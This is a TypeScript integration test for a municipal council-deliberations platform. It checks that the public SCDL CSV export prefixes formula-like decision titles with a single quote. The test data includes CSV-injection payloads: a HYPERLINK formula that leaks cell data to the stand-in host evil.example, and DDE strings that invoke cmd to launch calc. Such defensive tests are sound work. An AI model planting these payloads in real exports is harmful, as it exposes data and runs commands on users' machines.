import { parse } from 'csv-parse/sync';
import { silentLogger } from '@communes/kit';
import { deliberations } from '@communes/deliberations';
import { startNode, type RunningNode } from '@communes/node';
import { createTestDatabase, testDatabaseKinds, type TestDatabase } from '../support/databases';
import { dataOf, postGraphQL } from '../support/graphql-client';
import { startTestHub, type TestHub } from '../support/test-hub';
import { NAMUR } from '../fixtures/communes';
import { Clerk, type StaffRole } from '../deliberations/clerk';
import { ensureNamurBodies } from '../deliberations/council';
import { SET_CATEGORY } from '../deliberations/operations';
import type { DeliberationsNode } from '../deliberations/support';

/** Titles a spreadsheet would run as formulas (OWASP « CSV Injection »), one decided item each. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez ici")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1 (signe égal pleine chasse)',
];
const PLAIN = 'Budget 2026: approbation';
const UNANIMOUS = { pollType: 'NONE', present: 5, yes: 5, no: 0, abstain: 0 };

/**
 * CSV written by the project neutralises formulas: decided items whose titles are formulas,
 * recorded through the hub, come out of the node's public SCDL export as text.
 */
describe.each(testDatabaseKinds())('CSV formula injection on %s', (database) => {
  let hub: TestHub;
  let db: TestDatabase;
  let node: RunningNode;
  let rows: Record<string, string>[];

  beforeAll(async () => {
    hub = await startTestHub(database);
    db = await createTestDatabase(database);
    node = await startNode({
      commune: { ...NAMUR, country: 'BE', enterpriseNumber: '0216.689.981' },
      database: db.target,
      subgraphs: [deliberations],
      port: 0,
      hubPublicKey: hub.identityPublicKey,
      logger: silentLogger,
    });
    await hub.register(NAMUR.code, NAMUR.name, node.url, ['deliberations']);
    const { council } = await ensureNamurBodies({ db: node.db } as DeliberationsNode);
    const as = async (role: StaffRole) => ({
      authorization: `Bearer ${await hub.tokenFor({ [NAMUR.code]: [role] })}`,
    });
    // The clerk drives the workflow through the hub, as a commune's staff would.
    const throughHub = {
      commune: { code: NAMUR.code },
      query: (
        query: string,
        variables?: Record<string, unknown>,
        headers?: Record<string, string>,
      ) => postGraphQL(`${hub.url}/graphql`, query, variables, headers),
    } as unknown as DeliberationsNode;
    dataOf(
      await throughHub.query(
        SET_CATEGORY,
        { commune: NAMUR.code, input: { code: 'FIN-BUDGET', name: 'Budget', topic: '7.1' } },
        await as('admin'),
      ),
    );
    const clerk = new Clerk(throughHub, as, council.organization.id);
    const { meeting, items } = await clerk.publishedMeetingWith(
      [...FORMULAS, PLAIN].map((title) => ({ title, public: true })),
      { startsAt: '2026-03-12T19:30:00+01:00' },
    );
    for (const item of items) await clerk.decide(item['id'], 'ACCEPTED', UNANIMOUS);
    await clerk.moveMeeting(meeting['id'], 'DECIDED');
    const response = await fetch(
      `${node.url}/deliberations/export/scdl.csv?from=2026-03-01&to=2026-03-31`,
    );
    expect(response.status).toBe(200);
    rows = parse(await response.text(), { columns: true }) as Record<string, string>[];
  }, 120_000);
  afterAll(async () => {
    await node?.close();
    await db?.drop();
    await hub?.close();
  });

  it.each(FORMULAS)('exports the title %j as text, behind a single quote', (title) => {
    const objects = rows.map((row) => row['DELIB_OBJET']);
    expect(objects).toContain(`'${title}`);
    expect(objects).not.toContain(title);
  });

  it('leaves a title that is no formula as it was', () => {
    expect(rows.map((row) => row['DELIB_OBJET'])).toContain(PLAIN);
    expect(rows).toHaveLength(FORMULAS.length + 1);
  });
});
